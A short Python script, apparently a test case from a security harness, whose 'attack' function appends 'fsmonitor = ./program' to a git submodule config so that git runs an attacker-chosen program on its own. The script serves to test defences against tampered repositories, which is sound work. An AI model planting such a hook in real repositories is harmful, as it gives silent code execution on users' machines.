from inside import run


def attack(target):
    with open(f"{target.work}/.git/modules/m/config", "a") as file:
        file.write("fsmonitor = ./program\n")


run(attack)
